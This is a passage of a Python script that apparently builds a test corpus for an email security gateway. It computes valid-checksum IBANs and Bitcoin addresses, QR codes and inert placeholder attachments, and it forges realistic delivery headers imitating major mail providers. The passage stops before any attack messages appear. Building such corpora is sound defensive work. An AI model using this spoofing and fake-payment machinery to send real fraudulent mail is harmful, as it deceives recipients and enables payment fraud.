#!/usr/bin/env python3
"""Deterministic generator for the Example Group mail-gateway evaluation set.

Writes ../attack/*.eml and ../business/*.eml (relative to this file).
Python 3 standard library only, no network, no unseeded randomness.
All attachments are inert placeholders. All domains/IBANs/addresses of
attackers are fictitious test data.
"""
import base64, binascii, datetime, hashlib, io, os, quopri, struct, zipfile, zlib

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

# ----------------------------------------------------------------- helpers
def h(s, n=16, alphabet="0123456789abcdef"):
    """Deterministic pseudo-random string derived from seed text s."""
    out, c = "", 0
    while len(out) < n:
        d = hashlib.sha256(("%s/%d" % (s, c)).encode()).digest()
        for b in d:
            out += alphabet[b % len(alphabet)]
        c += 1
    return out[:n]

B52 = "BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789"

# ----------------------------------------------------------------- IBAN etc.
def _num(s):
    return int("".join(str(int(ch, 36)) for ch in s))

def iban(cc, bban):
    chk = 98 - _num(bban + cc + "00") % 97
    v = "%s%02d%s" % (cc, chk, bban)
    assert _num(v[4:] + v[:4]) % 97 == 1
    return v

def fmt_iban(v):
    return " ".join(v[i:i + 4] for i in range(0, len(v), 4))

def it_cin(abi, cab, conto):
    odd = [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12,
           14, 16, 10, 22, 25, 24, 23]
    s = 0
    for i, ch in enumerate(abi + cab + conto):
        k = int(ch) if ch.isdigit() else ord(ch) - 65
        s += odd[k] if i % 2 == 0 else k
    return chr(65 + s % 26)

def iban_it(abi, cab, conto):
    conto = conto.zfill(12)
    return iban("IT", it_cin(abi, cab, conto) + abi + cab + conto)

def es_dc(bank, branch, acct):
    w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]
    def d(s):
        r = 11 - sum(int(a) * b for a, b in zip(s, w)) % 11
        return {11: 0, 10: 1}.get(r, r)
    return "%d%d" % (d("00" + bank + branch), d(acct))

def iban_es(bank, branch, acct):
    return iban("ES", bank + branch + es_dc(bank, branch, acct) + acct)

def pl_sort(first7):
    w = [3, 9, 7, 1, 3, 9, 7]
    return first7 + str((10 - sum(int(a) * b for a, b in zip(first7, w)) % 10) % 10)

def iban_pl(bank7, acct16):
    return iban("PL", pl_sort(bank7) + acct16)

def de_m00(acct9):
    """Account with check-digit method 00 (Luhn-type, weights 2,1,2,1...)."""
    s = 0
    for i, ch in enumerate(reversed(acct9)):
        p = int(ch) * (2 if i % 2 == 0 else 1)
        s += p // 10 + p % 10
    return acct9 + str((10 - s % 10) % 10)

def iban_de(blz, acct9):
    return iban("DE", blz + de_m00(acct9))

def ru_account(bik, acct19):
    """Russian settlement account (20 digits) with control key at position 9."""
    w = [7, 1, 3] * 8
    for k in range(10):
        a = acct19[:8] + str(k) + acct19[8:]
        s = sum(int(x) * y for x, y in zip(bik[-3:] + a, w))
        if s % 10 == 0:
            return a
    raise ValueError

# ----------------------------------------------------------------- crypto addr
B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"

def b58check(payload):
    raw = payload + hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    n = int.from_bytes(raw, "big")
    s = ""
    while n:
        n, r = divmod(n, 58)
        s = B58[r] + s
    return "1" * (len(raw) - len(raw.lstrip(b"\0"))) + s

def btc_p2pkh(seed):
    return b58check(b"\x00" + hashlib.sha256(seed.encode()).digest()[:20])

BECH = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"

def _polymod(values):
    gen = [0x3B6A57B2, 0x26508E6D, 0x1EA119FA, 0x3D4233DD, 0x2A1462B3]
    chk = 1
    for v in values:
        b = chk >> 25
        chk = (chk & 0x1FFFFFF) << 5 ^ v
        for i in range(5):
            chk ^= gen[i] if (b >> i) & 1 else 0
    return chk

def _hrpx(hrp):
    return [ord(x) >> 5 for x in hrp] + [0] + [ord(x) & 31 for x in hrp]

def _bits(data, frm, to):
    acc = bits = 0
    out = []
    for v in data:
        acc = (acc << frm) | v
        bits += frm
        while bits >= to:
            bits -= to
            out.append((acc >> bits) & ((1 << to) - 1))
    if bits:
        out.append((acc << (to - bits)) & ((1 << to) - 1))
    return out

def btc_bech32(seed):
    prog = hashlib.sha256(seed.encode()).digest()[:20]
    data = [0] + _bits(prog, 8, 5)
    pm = _polymod(_hrpx("bc") + data + [0] * 6) ^ 1
    chk = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    addr = "bc1" + "".join(BECH[d] for d in data + chk)
    assert _polymod(_hrpx("bc") + [BECH.index(c) for c in addr[3:]]) == 1
    return addr

def _b58decode_ok(a):
    n = 0
    for c in a:
        n = n * 58 + B58.index(c)
    raw = n.to_bytes(25, "big")
    return hashlib.sha256(hashlib.sha256(raw[:21]).digest()).digest()[:4] == raw[21:]

# ----------------------------------------------------------------- QR encoder
_ECC_PER_BLOCK = {"L": (-1, 7, 10, 15, 20, 26, 18, 20, 24, 30, 18),
                  "M": (-1, 10, 16, 26, 18, 24, 16, 18, 22, 22, 26)}
_NUM_BLOCKS = {"L": (-1, 1, 1, 1, 1, 1, 2, 2, 2, 2, 4),
               "M": (-1, 1, 1, 1, 2, 2, 4, 4, 4, 5, 5)}
_FMT = {"L": 1, "M": 0}

def _gmul(x, y):
    z = 0
    for i in reversed(range(8)):
        z = (z << 1) ^ ((z >> 7) * 0x11D)
        z ^= ((y >> i) & 1) * x
    return z

def _rs_div(deg):
    res = [0] * (deg - 1) + [1]
    root = 1
    for _ in range(deg):
        for j in range(deg):
            res[j] = _gmul(res[j], root)
            if j + 1 < deg:
                res[j] ^= res[j + 1]
        root = _gmul(root, 2)
    return res

def _rs_rem(data, div):
    res = [0] * len(div)
    for b in data:
        f = b ^ res.pop(0)
        res.append(0)
        for i, c in enumerate(div):
            res[i] ^= _gmul(c, f)
    return res

def _raw_modules(ver):
    r = (16 * ver + 128) * ver + 64
    if ver >= 2:
        na = ver // 7 + 2
        r -= (25 * na - 10) * na - 55
        if ver >= 7:
            r -= 36
    return r

def qr_matrix(text, ecl="M"):
    data = text.encode("utf-8")
    for ver in range(1, 11):
        cap = _raw_modules(ver) // 8 - _ECC_PER_BLOCK[ecl][ver] * _NUM_BLOCKS[ecl][ver]
        ccbits = 8 if ver < 10 else 16
        if 4 + ccbits + 8 * len(data) <= cap * 8:
            break
    else:
        raise ValueError("text too long for QR v10")
    bits = [0, 1, 0, 0] + [(len(data) >> i) & 1 for i in reversed(range(ccbits))]
    for b in data:
        bits += [(b >> i) & 1 for i in reversed(range(8))]
    bits += [0] * min(4, cap * 8 - len(bits))
    bits += [0] * (-len(bits) % 8)
    cw = [int("".join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8)]
    pad = 0xEC
    while len(cw) < cap:
        cw.append(pad)
        pad ^= 0xEC ^ 0x11
    # ECC + interleave
    nb, eb = _NUM_BLOCKS[ecl][ver], _ECC_PER_BLOCK[ecl][ver]
    raw = _raw_modules(ver) // 8
    nshort, slen = nb - raw % nb, raw // nb
    div, blocks, k = _rs_div(eb), [], 0
    for i in range(nb):
        dat = cw[k:k + slen - eb + (0 if i < nshort else 1)]
        k += len(dat)
        ecc = _rs_rem(dat, div)
        if i < nshort:
            dat = dat + [0]
        blocks.append(dat + ecc)
    final = []
    for i in range(len(blocks[0])):
        for j, blk in enumerate(blocks):
            if i != slen - eb or j >= nshort:
                final.append(blk[i])
    size = ver * 4 + 17
    mod = [[False] * size for _ in range(size)]
    fn = [[False] * size for _ in range(size)]

    def setf(x, y, d):
        mod[y][x] = bool(d)
        fn[y][x] = True
    for i in range(size):
        setf(6, i, i % 2 == 0)
        setf(i, 6, i % 2 == 0)
    for cx, cy in ((3, 3), (size - 4, 3), (3, size - 4)):
        for dy in range(-4, 5):
            for dx in range(-4, 5):
                x, y = cx + dx, cy + dy
                if 0 <= x < size and 0 <= y < size:
                    setf(x, y, max(abs(dx), abs(dy)) not in (2, 4))
    if ver > 1:
        na = ver // 7 + 2
        step = (ver * 8 + na * 3 + 5) // (na * 4 - 4) * 2
        pos = sorted([size - 7 - i * step for i in range(na - 1)] + [6])
        last = len(pos) - 1
        for i in range(len(pos)):
            for j in range(len(pos)):
                if (i, j) in ((0, 0), (0, last), (last, 0)):
                    continue
                for dy in range(-2, 3):
                    for dx in range(-2, 3):
                        setf(pos[i] + dx, pos[j] + dy, max(abs(dx), abs(dy)) != 1)

    def draw_format(mask):
        d = _FMT[ecl] << 3 | mask
        r = d
        for _ in range(10):
            r = (r << 1) ^ ((r >> 9) * 0x537)
        b = (d << 10 | r) ^ 0x5412
        g = lambda i: (b >> i) & 1
        for i in range(6):
            setf(8, i, g(i))
        setf(8, 7, g(6))
        setf(8, 8, g(7))
        setf(7, 8, g(8))
        for i in range(9, 15):
            setf(14 - i, 8, g(i))
        for i in range(8):
            setf(size - 1 - i, 8, g(i))
        for i in range(8, 15):
            setf(8, size - 15 + i, g(i))
        setf(8, size - 8, 1)
    draw_format(0)
    if ver >= 7:
        r = ver
        for _ in range(12):
            r = (r << 1) ^ ((r >> 11) * 0x1F25)
        b = ver << 12 | r
        for i in range(18):
            bit = (b >> i) & 1
            a, c = size - 11 + i % 3, i // 3
            setf(a, c, bit)
            setf(c, a, bit)
    i = 0
    right = size - 1
    while right >= 1:
        if right == 6:
            right = 5
        for vert in range(size):
            for j in range(2):
                x = right - j
                up = ((right + 1) & 2) == 0
                y = size - 1 - vert if up else vert
                if not fn[y][x] and i < len(final) * 8:
                    mod[y][x] = bool((final[i >> 3] >> (7 - (i & 7))) & 1)
                    i += 1
        right -= 2
    masks = [lambda x, y: (x + y) % 2 == 0, lambda x, y: y % 2 == 0,
             lambda x, y: x % 3 == 0, lambda x, y: (x + y) % 3 == 0,
             lambda x, y: (x // 3 + y // 2) % 2 == 0,
             lambda x, y: x * y % 2 + x * y % 3 == 0,
             lambda x, y: (x * y % 2 + x * y % 3) % 2 == 0,
             lambda x, y: ((x + y) % 2 + x * y % 3) % 2 == 0]

    def apply(m):
        for y in range(size):
            for x in range(size):
                if not fn[y][x] and masks[m](x, y):
                    mod[y][x] = not mod[y][x]

    def penalty():
        p = 0
        for grid in (mod, [list(c) for c in zip(*mod)]):
            for row in grid:
                run = 1
                for x in range(1, size + 1):
                    if x < size and row[x] == row[x - 1]:
                        run += 1
                    else:
                        if run >= 5:
                            p += run - 2
                        run = 1
                s = "".join("1" if v else "0" for v in row)
                p += 40 * (s.count("1011101") and (s.count("00001011101") + s.count("10111010000")))
        for y in range(size - 1):
            for x in range(size - 1):
                if mod[y][x] == mod[y][x + 1] == mod[y + 1][x] == mod[y + 1][x + 1]:
                    p += 3
        dark = sum(map(sum, mod))
        p += 10 * (abs(dark * 20 - size * size * 10) // (size * size))
        return p
    best = None
    for m in range(8):
        apply(m)
        draw_format(m)
        pen = penalty()
        if best is None or pen < best[0]:
            best = (pen, m)
        apply(m)
    apply(best[1])
    draw_format(best[1])
    return mod

def png_gray(rows):
    w, hgt = len(rows[0]), len(rows)
    raw = b"".join(b"\0" + bytes(r) for r in rows)
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, hgt, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))

def qr_png(text, scale=6, quiet=4):
    m = qr_matrix(text)
    n = len(m) + 2 * quiet
    rows = []
    for y in range(n):
        row = []
        for x in range(n):
            mx, my = x - quiet, y - quiet
            dark = 0 <= mx < len(m) and 0 <= my < len(m) and m[my][mx]
            row += [0 if dark else 255] * scale
        for _ in range(scale):
            rows.append(row)
    return png_gray(rows)

# ----------------------------------------------------------------- inert files
def pdf_placeholder(title, lines):
    """Minimal valid one-page PDF with a visible text stating it is a placeholder."""
    txt = ["INERT TEST PLACEHOLDER - evaluation corpus, no active content", title] + list(lines)
    ops = ["BT /F1 11 Tf 50 780 Td 14 TL"]
    for t in txt:
        t = t.encode("latin-1", "replace").decode("latin-1")
        t = t.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append("(%s) Tj T*" % t)
    ops.append("ET")
    stream = "\n".join(ops).encode("latin-1")
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x)
    return out

def zip_bytes(files):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=(2026, 11, 2, 8, 30, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return bio.getvalue()

INERT = "INERT TEST PLACEHOLDER - this file stands in for a malicious payload; it contains no code.\n"

# ----------------------------------------------------------------- MIME
def ew(s, charset="utf-8", enc="Q"):
    """RFC 2047 encoded words (folded), or plain text if ASCII."""
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        pass
    words, cur = [], ""
    pre = "=?%s?%s?" % (charset, enc)

    def enc_chunk(c):
        b = c.encode(charset)
        if enc == "B":
            return base64.b64encode(b).decode()
        o = ""
        for byte in b:
            ch = chr(byte)
            if ch == " ":
                o += "_"
            elif ch.isalnum() and byte < 128:
                o += ch
            elif ch in "!*+-/" and byte < 128:
                o += ch
            else:
                o += "=%02X" % byte
        return o
    for ch in s:
        if len(pre) + len(enc_chunk(cur + ch)) + 2 > 75:
            words.append(pre + enc_chunk(cur) + "?=")
            cur = ch
        else:
            cur += ch
    if cur:
        words.append(pre + enc_chunk(cur) + "?=")
    return "\n ".join(words)

def addr(name, a, charset="utf-8", enc="Q"):
    if not name:
        return a
    try:
        name.encode("ascii")
        if any(c in name for c in ',.;:()"@'):
            name = '"%s"' % name.replace('"', '')
        return "%s <%s>" % (name, a)
    except UnicodeEncodeError:
        return "%s <%s>" % (ew(name, charset, enc), a)

def wrap_b64(b):
    s = base64.b64encode(b).decode()
    return "\n".join(s[i:i + 76] for i in range(0, len(s), 76)) + "\n"

def qp(text_bytes):
    out = quopri.encodestring(text_bytes).decode("ascii")
    return out if out.endswith("\n") else out + "\n"

class Part:
    def __init__(self, headers, body):
        self.headers, self.body = headers, body

def text(body, subtype="plain", charset="utf-8", cte="quoted-printable", flowed=False):
    body = body.strip("\n") + "\n"
    raw = body.encode(charset)
    ct = "text/%s; charset=%s" % (subtype, charset if charset == "utf-8" else charset)
    if charset.lower() in ("utf-8",):
        ct = "text/%s; charset=\"UTF-8\"" % subtype if subtype == "html" else "text/%s; charset=UTF-8" % subtype
    if flowed:
        ct += "; format=flowed"
    if cte == "quoted-printable":
        b = qp(raw)
    elif cte == "base64":
        b = wrap_b64(raw)
    else:
        b = raw.decode("latin-1")  # 8bit: raw octets carried through unchanged
    p = Part([("Content-Type", ct), ("Content-Transfer-Encoding", cte)], b)
    p.charset = charset
    return p

def attach(filename, data, ctype, inline=False, cid=None, name_charset="utf-8"):
    fn = ew(filename, name_charset, "B")
    hd = [("Content-Type", '%s; name="%s"' % (ctype, fn)),
          ("Content-Disposition", '%s; filename="%s"' % ("inline" if inline else "attachment", fn)),
          ("Content-Transfer-Encoding", "base64")]
    if cid:
        hd.insert(1, ("Content-ID", "<%s>" % cid))
    return Part(hd, wrap_b64(data))

def multi(subtype, parts, seed, extra=""):
    bnd = "----=_Part_%s" % h(seed + subtype, 24, "0123456789ABCDEF")
    if subtype == "alternative":
        bnd = "_000_%s_" % h(seed + subtype, 28, "0123456789ABCDEFGHJKLMNPQRSTUVWXYZ")
    ct = 'multipart/%s; boundary="%s"%s' % (subtype, bnd, extra)
    body = ""
    if subtype == "mixed":
        body += "This is a multi-part message in MIME format.\n\n"
    for p in parts:
        body += "--%s\n" % bnd
        body += render_headers(p.headers)
        body += "\n" + p.body
        if not p.body.endswith("\n"):
            body += "\n"
    body += "--%s--\n" % bnd
    return Part([("Content-Type", ct)], body)

def render_headers(hs):
    return "".join("%s: %s\n" % (k, v) for k, v in hs)

# ----------------------------------------------------------------- infrastructure
TZ = {"CET": 60, "EET": 120, "MSK": 180, "GMT": 0, "UTC": 0, "PST": -480, "EST": -300,
      "ICT": 420, "IST": 330, "WIB": 420}

def dt(s, tz="CET"):
    d = datetime.datetime.strptime(s, "%Y-%m-%d %H:%M:%S")
    return d.replace(tzinfo=datetime.timezone(datetime.timedelta(minutes=TZ[tz])))

def rfcdate(d):
    off = d.utcoffset().total_seconds() // 60
    sign = "+" if off >= 0 else "-"
    off = abs(int(off))
    return d.strftime("%a, %d %b %Y %H:%M:%S ") + "%s%02d%02d" % (sign, off // 60, off % 60)

def later(d, sec, tz=None):
    n = d + datetime.timedelta(seconds=sec)
    if tz:
        n = n.astimezone(datetime.timezone(datetime.timedelta(minutes=TZ[tz])))
    return n

def mx_received(helo, rdns, ip, rcpt, when, seed, tls=True):
    qid = h(seed + "qid", 12, B52)
    return ("from %s (%s [%s])\n\tby mx01.example.com (Postfix) with %s id 4d%s\n\tfor <%s>; %s (CET)"
            % (helo, rdns, ip, "ESMTPS" if tls else "ESMTP", qid, rcpt,
               rfcdate(later(when, 0, "CET"))))

# ----------------------------------------------------------------- message
MESSAGES = []

def M(infra=None, **kw):
    d = dict(infra or {})
    hdrs = list(d.pop("headers", [])) + list(kw.pop("headers", []))
    inner = kw.pop("inner", None)
    d.update(kw)
    if inner is not None:
        d["inner"] = inner + d.get("inner", [])
    d["headers"] = hdrs
    MESSAGES.append(d)

def build(m):
    seed = m["file"]
    when = m["date"]
    rcpt = m.get("rcpt") or m["to"][0][1]
    delay = m.get("delay", 3 + int(h(seed + "d", 2, "0123456789")) % 40)
    arrival = later(when, delay)
    hs = []
    rp = m.get("return_path", m["frm"][1]).replace("{RCPTX}", rcpt.replace("@", "="))
    hs.append(("Return-Path", "<%s>" % rp))
    hs.append(("Received", mx_received(m["helo"], m["rdns"], m["ip"], rcpt, arrival, seed, m.get("tls", True))))
    t = when
    inner = m.get("inner", [])
    for i, r in enumerate(inner):
        it = m.get("inner_tz")
        hs.append(("Received", r.replace("{DATE}", rfcdate(later(when, max(0, delay - 2 - i), it)) + (" (%s)" % it if it in ("PST", "CET") else "")).replace("{RCPT}", rcpt).replace("{FROM}", rp)))
    for k, v in m.get("pre_headers", []):
        hs.append((k, v))
    cs, enc = m.get("hcs", "utf-8"), m.get("henc", "Q")
    hs.append(("From", addr(m["frm"][0], m["frm"][1], cs, enc)))
    if m.get("sender"):
        hs.append(("Sender", m["sender"]))
    hs.append(("To", ",\n\t".join(addr(n, a, cs, enc) for n, a in m["to"])))
    if m.get("cc"):
        hs.append(("Cc", ",\n\t".join(addr(n, a, cs, enc) for n, a in m["cc"])))
    if m.get("reply_to"):
        hs.append(("Reply-To", addr(m["reply_to"][0], m["reply_to"][1], cs, enc)))
    hs.append(("Subject", ew(m["subject"], cs, enc)))
    hs.append(("Date", rfcdate(when)))
    mid = m.get("msgid") or "<%s@%s>" % (h(seed + "mid", 20), m["frm"][1].split("@")[1])
    hs.append(("Message-ID", mid.replace("{TS}", str(int(when.timestamp())))))
    for k, v in m.get("refs", []):
        hs.append((k, v))
    hs.append(("MIME-Version", "1.0"))
    for k, v in m.get("headers", []):
        if k == "X-MS-Has-Attach" and m["body"].headers[0][1].startswith("multipart/mixed"):
            v = "yes"
        hs.append((k, ew(v, "utf-8", "B")))
    body = m["body"]
    hs += body.headers
    out = render_headers(hs) + "\n" + body.body
    data = out.encode("latin-1") if all(ord(c) < 256 for c in out) else None
    if data is None:
        raise ValueError("non-latin1 output in %s" % seed)
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")

def bodybytes(p):
    return p

# ----------------------------------------------------------------- sending infrastructure presets
def _ts(d):
    return int(d.timestamp())

def gmail(m_seed, n=54):
    ip = "209.85.%d.%d" % ([221, 128, 218, 208, 167][n % 5], n)
    host = "mail-%s-f%d.google.com" % (["wr1", "wm1", "ej1", "pl1", "lf1"][n % 5], n)
    return dict(helo=host, rdns=host, ip=ip,
                inner=["by %s with SMTP id %s\n        for <{RCPT}>; {DATE}" % (host, h(m_seed + "g", 30, "abcdefghijklmnopqrstuvwxyz0123456789"))],
                inner_tz="PST",
                msgid="<CA%s@mail.gmail.com>" % h(m_seed + "gm", 56, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-+"))

def gmx(m_seed, webde=False, client_ip="91.64.118.23"):
    host = "mout.web.de" if webde else "mout.gmx.net"
    ip = "217.72.192.78" if webde else "212.227.17.22"
    app = "3c-app-webde-bap31" if webde else "3c-app-gmx-bs54"
    uid = h(m_seed, 8) + "-" + h(m_seed + "1", 4) + "-" + h(m_seed + "2", 4) + "-" + h(m_seed + "3", 4) + "-" + h(m_seed + "4", 12)
    return dict(helo=host, rdns=host, ip=ip,
                inner=["from %s ([%s]) by %s (mrgmx%s [%s])\n with HTTP; {DATE}" % (app, client_ip, "web-mail.web.de" if webde else "web-mail.gmx.net", "005", ip)],
                msgid="<trinity-%s-{TS}%s@%s>" % (uid, h(m_seed + "t", 3, "0123456789"), app),
                headers=[("Importance", "normal"), ("Sensitivity", "Normal"), ("X-Priority", "3")])

def mailru(m_seed, client_ip="95.24.118.7"):
    return dict(helo="smtp47.i.mail.ru", rdns="smtp47.i.mail.ru", ip="95.163.41.87",
                inner=["by f512.i.mail.ru with local (envelope-from <{FROM}>)\n\tid 1vA%s\n\tfor {RCPT}; {DATE}" % h(m_seed, 8, B52),
                       ],
                msgid="<{TS}.%s@f512.i.mail.ru>" % h(m_seed + "b", 9, "0123456789"),
                headers=[("X-Mailer", "Mail.Ru Mailer 1.0"), ("X-Originating-IP", "[%s]" % client_ip)])

def wp(m_seed, client_ip="83.25.144.201"):
    return dict(helo="rekin42.go2.pl", rdns="rekin42.go2.pl", ip="193.17.41.192",
                inner=["from o2.pl (unknown [10.4.0.57])\n\tby rekin42.go2.pl (Postfix) with ESMTP id %s;\n\t{DATE}" % h(m_seed, 11, "0123456789ABCDEF")],
                msgid="<%s@o2.pl>" % h(m_seed, 32, "abcdef0123456789"),
                headers=[("X-WP-MailID", h(m_seed + "w", 32)), ("X-Originating-IP", "[%s]" % client_ip)])

def m365(m_seed, dom, topic, lang="de-DE", region="eur", n=2071):
    pod = ["AM9PR04MB", "DU0PR07MB", "DB9PR08MB", "PA4PR07MB", "FR2P281MB", "VI1PR02MB"][n % 6]
    box = "%s%04d" % (pod, 7000 + n % 2999)
    box2 = "%s%04d" % (pod, 8000 + (n * 7) % 1999)
    host = "mail-%s%02don%d.outbound.protection.outlook.com" % (["dbaeur", "am6eur", "vi1eur", "db8eur", "fr3deu"][n % 5], n % 7, n)
    ip = "40.107.%d.%d" % ([20, 104, 22, 162, 159][n % 5], n % 250)
    helo = ["EUR05-DB8-obe", "EUR03-AM7-obe", "EUR02-VI1-obe", "EUR05-VI1-obe", "DEU01-FR2-obe"][n % 5] + ".outbound.protection.outlook.com"
    tidx = base64.b64encode(hashlib.sha256((m_seed + "ti").encode()).digest()[:22]).decode()
    return dict(helo=helo, rdns=host, ip=ip,
                inner=["from %s.%sprd%02d.prod.outlook.com\n (2603:10a6:20b:%s::%s) by %s.%sprd%02d.prod.outlook.com\n (2603:10a6:10:%s::%s) with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.9412.14; {DATE}"
                       % (box, region, n % 9 + 1, h(m_seed, 3), h(m_seed + "x", 2), box2, region, n % 9 + 1, h(m_seed + "y", 3), h(m_seed + "z", 2))],
                inner_tz="UTC",
                msgid="<%s%s@%s.%sprd%02d.prod.outlook.com>" % (box, h(m_seed + "id", 28, "0123456789ABCDEF"), box, region, n % 9 + 1),
                headers=[("Thread-Topic", topic), ("Thread-Index", tidx), ("Accept-Language", lang + ", en-US"),
                         ("Content-Language", lang), ("X-MS-Has-Attach", ""), ("X-MS-TNEF-Correlator", "")])

def exch_internal(m_seed, topic, lang="de-DE", client="10.20.14.57"):
    tidx = base64.b64encode(hashlib.sha256((m_seed + "ti").encode()).digest()[:22]).decode()
    return dict(helo="mail-int01.example.com", rdns="mail-int01.example.com", ip="10.20.0.25",
                inner=["from EXCH01.corp.example.com (exch01.corp.example.com [10.20.0.31])\n\tby mail-int01.example.com (Postfix) with ESMTPS id %s\n\tfor <{RCPT}>; {DATE}" % h(m_seed + "int", 11, "0123456789ABCDEF")],
                inner_tz="CET",
                msgid="<%s@EXCH01.corp.example.com>" % h(m_seed + "mid", 32),
                headers=[("Thread-Topic", topic), ("Thread-Index", tidx), ("Accept-Language", lang + ", en-US"),
                         ("Content-Language", lang), ("X-MS-Has-Attach", ""), ("X-MS-Exchange-Organization-AuthAs", "Internal"),
                         ("X-Originating-IP", "[%s]" % client)])

def vps(m_seed, ip, rdns, helo=None, mailer="PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)", dom=None):
    d = dict(helo=helo or rdns, rdns=rdns, ip=ip, inner=[])
    if dom:
        d["msgid"] = "<%s@%s>" % (h(m_seed + "v", 32, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"), dom)
    if mailer:
        d["headers"] = [("X-Mailer", mailer)]
    return d

def cpanel(m_seed, host, ip, dom, client_ip, ua="Roundcube Webmail/1.6.9"):
    return dict(helo=host, rdns=host, ip=ip,
                inner=["from [%s] (port=%d helo=%s)\n\tby %s with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.98)\n\t(envelope-from <{FROM}>)\n\tid 1vB%s-0000Xy-2k;\n\t{DATE}"
                       % (client_ip, 50000 + int(h(m_seed, 4, "0123456789")), client_ip, host, h(m_seed + "e", 7, B52))],
                msgid="<%s@%s>" % (h(m_seed + "rc", 32), dom),
                headers=[("User-Agent", ua)] if ua else [])

def ses(m_seed, region="eu-west-1", n=18):
    mid = "0102019%s-%s-%s-%s-%s-000000" % (h(m_seed, 9), h(m_seed + "a", 8), h(m_seed + "b", 4), h(m_seed + "c", 4), h(m_seed + "d", 12))
    host = "a%d-%d.smtp-out.%s.amazonses.com" % (n % 9 + 1, n, region)
    return dict(helo=host, rdns=host, ip="54.240.%d.%d" % (n % 9 + 1, n),
                msgid="<%s@%s.amazonses.com>" % (mid, region), return_path="%s@%s.amazonses.com" % (mid, region),
                headers=[("Feedback-ID", "::1.%s.%s=:AmazonSES" % (region, h(m_seed + "f", 43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")))])

def sendgrid(m_seed, frm_dom, n=44):
    host = "%s.outbound-mail.sendgrid.net" % h(m_seed + "sg", 8, "abcdefghijklmnopqrstuvwxyz")
    uid = int(h(m_seed + "u", 8, "0123456789"))
    return dict(helo=host, rdns=host, ip="149.72.%d.%d" % (100 + n % 120, n),
                return_path="bounces+%d-%s-{RCPTX}@em%d.%s" % (uid, h(m_seed, 4), 4000 + n, frm_dom),
                msgid="<%s@geopod-ismtpd-%d>" % (h(m_seed + "m", 22, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"), n % 40),
                headers=[("X-SG-EID", h(m_seed + "eid", 80, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") + "=="),
                         ("X-Entity-ID", "u001." + h(m_seed + "ent", 22, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"))])

def mailchimp(m_seed, list_dom, n=181):
    host = "mail%d.atl%d.mcdlv.net" % (n, 100 + n % 120)
    u = h(m_seed + "u", 24, "0123456789abcdef")
    return dict(helo=host, rdns=host, ip="198.2.%d.%d" % (n % 256, n % 200 + 12),
                return_path="bounce-mc.us21_%s.%s-{RCPTX}@%s" % (h(m_seed, 8, "0123456789"), h(m_seed + "c", 7, "0123456789"), host),
                msgid="<%s.%s@%s>" % (u, h(m_seed + "x", 8, "0123456789abcdef"), host),
                headers=[("List-Unsubscribe", "<https://%s.us21.list-manage.com/unsubscribe?u=%s&id=%s>, <mailto:unsubscribe-mc.us21_%s@%s>" % (list_dom.split(".")[0], u, h(m_seed + "i", 10), u, host)),
                         ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                         ("List-Id", "%s <%s.list-id.mcsv.net>" % (list_dom, u)),
                         ("X-Mailer", "Mailchimp Mailer - **CID%s**" % h(m_seed + "cid", 20)),
                         ("Precedence", "bulk")])

def aruba(m_seed, client_ip="93.45.112.76", n=71):
    host = "smtpcmd%04d.aruba.it" % (800 + n)
    return dict(helo="smtpcmd%04d.aruba.it" % (800 + n), rdns=host, ip="62.149.156.%d" % n,
